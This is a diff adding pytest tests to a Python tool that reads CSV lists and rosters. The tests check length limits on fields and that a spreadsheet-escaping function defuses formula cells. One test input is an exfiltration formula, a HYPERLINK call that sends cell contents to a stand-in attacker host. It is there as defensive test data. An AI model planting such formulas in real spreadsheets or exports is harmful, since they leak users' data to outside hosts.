@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from custodes.lists import ListFormatError, Rejected, Service, read_generic, read_roster
+from custodes.lists.csvtable import spreadsheet_safe
 from tests.lists_data import FIXTURES
 
 GENERIC = FIXTURES / "generic-list.csv"
@@ -185,3 +186,94 @@ def test_a_roster_needs_only_the_roster_columns(tmp_path: Path) -> None:
     )
     with pytest.raises(ListFormatError, match=r"the required column 'list_type' is missing"):
         read_generic(path)
+
+
+LIST_HEADER = "person_ref,first_name,last_name,agency,badge,list_type,jurisdiction,reason\n"
+
+
+def test_a_value_longer_than_the_registry_keeps_is_a_rejected_row(tmp_path: Path) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text(
+        LIST_HEADER
+        + f"1,{'D' * 5000},Example,,,barred,GB-EAW,\n"
+        + f"2,Sam,Sample,{'A' * 201},,barred,GB-EAW,\n"
+        + f"3,Lee,Example,,{'9' * 33},barred,GB-EAW,\n"
+        + f"4,Kim,Example,,,barred,{'G' * 17},\n"
+        + f"{'R' * 161},Pat,Example,,,barred,GB-EAW,\n"
+        + "6,Ann,Example,,,barred,GB-EAW,\n",
+        encoding="utf-8",
+    )
+    read = read_generic(path)
+    assert [(r.line, r.field, r.why) for r in read.rejected] == [
+        (2, "first_name", "is 5,000 characters long; the most the field holds is 100"),
+        (3, "agency", "is 201 characters long; the most the field holds is 200"),
+        (4, "badge", "is 33 characters long; the most the field holds is 32"),
+        (5, "jurisdiction", "is 17 characters long; the most the field holds is 16"),
+        (6, "person_ref", "is 161 characters long; the most the field holds is 160"),
+    ]
+    assert [r.source_ref for r in read.records] == ["6"]
+
+
+def test_a_roster_reference_longer_than_the_registry_keeps_is_a_rejected_row(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "roster.csv"
+    path.write_text(
+        f"person_ref,first_name,last_name\n{'X' * 65},Pat,Example\nXF-1,Sam,Sample\n",
+        encoding="utf-8",
+    )
+    read = read_roster(path)
+    assert [(r.line, r.field) for r in read.rejected] == [(2, "person_ref")]
+    assert [p.person_ref for p in read.people] == ["XF-1"]
+
+
+def test_a_field_too_long_for_any_reader_is_named_and_not_blamed_on_a_quote(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text(
+        LIST_HEADER
+        + "1,Pat,Example,,,barred,GB-EAW,\n"
+        + f'2,Sam,Sample,,,barred,GB-EAW,"{"x" * 200_000}"\n',
+        encoding="utf-8",
+    )
+    with pytest.raises(ListFormatError) as error:
+        read_generic(path)
+    assert str(error.value) == (
+        "list.csv, line 3: the field 'reason' is longer than 131,072 characters, more than any "
+        "field of a list or roster holds; nothing of the file was read"
+    )
+
+
+def test_a_long_field_in_a_file_without_a_header_it_names_is_still_called_long(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "roster.csv"
+    path.write_text(
+        "person_ref,first_name,last_name\n" + f'1,Pat,Example,"{"y" * 140_000}"\n',
+        encoding="utf-8",
+    )
+    with pytest.raises(ListFormatError, match=r"roster.csv, line 2: a field is longer than"):
+        read_roster(path)
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        ),
+        ("=1+2", "'=1+2"),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("XF-101", "XF-101"),
+        ("O'Brien", "O'Brien"),
+        ("", ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
+    assert spreadsheet_safe(cell) == written
